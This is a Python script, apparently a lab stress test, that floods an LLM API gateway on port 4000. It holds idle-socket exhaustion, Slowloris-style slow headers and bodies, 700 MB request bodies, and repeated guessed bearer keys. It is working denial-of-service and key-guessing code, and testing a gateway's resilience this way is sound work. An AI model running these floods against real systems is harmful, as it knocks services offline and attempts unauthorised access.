"""What a stranger without a key sends to a gateway: run by Python's standard library alone on a lab host.

    python3 flood.py ADDRESS KIND SECONDS

It prints what became of it as JSON.
"""

from __future__ import annotations

import json
import resource
import socket
import sys
import time
from collections import Counter

_MOST_SOCKETS = 4200
_HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
_MEGABYTE = 1 << 20


def main(address: str, kind: str, seconds: float) -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))
    print(json.dumps(_KINDS[kind](address, time.monotonic() + seconds)))


def idle_sockets(address: str, end: float) -> dict[str, int]:
    """As many connections as there can be, on which nothing is said."""
    return _hold(address, end, b"")


def slow_headers(address: str, end: float) -> dict[str, int]:
    return _hold(address, end, b"GET /v1/models HTTP/1.1\r\nHost: x\r\nX-A: ")


def slow_bodies(address: str, end: float) -> dict[str, int]:
    return _hold(address, end, _HEAD + b"Content-Length: 10000\r\n\r\n{")


def big_bodies(address: str, end: float) -> dict[str, int]:
    """Bodies of 700 MB, of which as much is sent as is taken."""
    most, statuses = 0, Counter[str]()
    while time.monotonic() < end:
        sent = 0
        with _connected(address) as connection:
            connection.settimeout(5)
            try:
                connection.sendall(_HEAD + b"Content-Length: 734003200\r\n\r\n")
                while sent < 700 * _MEGABYTE:
                    sent += connection.send(b" " * _MEGABYTE)
            except OSError:
                pass
            statuses[_status(connection)] += 1
        most = max(most, sent)
    return {"sent": most, **statuses}


def wrong_keys(address: str, end: float) -> dict[str, int]:
    statuses: Counter[str] = Counter()
    number = 0
    while time.monotonic() < end:
        number += 1
        with _connected(address) as connection:
            key = f"Authorization: Bearer sk-guess-{number}\r\n\r\n".encode()
            connection.sendall(b"GET /v1/models HTTP/1.1\r\nHost: x\r\n" + key)
            statuses[_status(connection)] += 1
    return dict(statuses)


def _hold(address: str, end: float, said: bytes) -> dict[str, int]:
    held: list[socket.socket] = []
    refused = 0
    while time.monotonic() < end:
        if len(held) < _MOST_SOCKETS:
            try:
                connection = _connected(address)
                connection.sendall(said)
                connection.setblocking(False)
                held.append(connection)
            except OSError:
                refused += 1
        else:
            time.sleep(0.1)
    open_still = sum(_is_open(connection) for connection in held)
    return {"opened": len(held), "open": open_still, "refused": refused}


def _connected(address: str) -> socket.socket:
    return socket.create_connection((address, 4000), timeout=5)


def _is_open(connection: socket.socket) -> bool:
    try:
        while connection.recv(4096):
            pass
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def _status(connection: socket.socket) -> str:
    try:
        return connection.recv(4096).split(b" ")[1].decode()
    except (OSError, IndexError):
        return "closed"


_KINDS = {each.__name__: each for each in (idle_sockets, slow_headers, slow_bodies, big_bodies, wrong_keys)}

if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
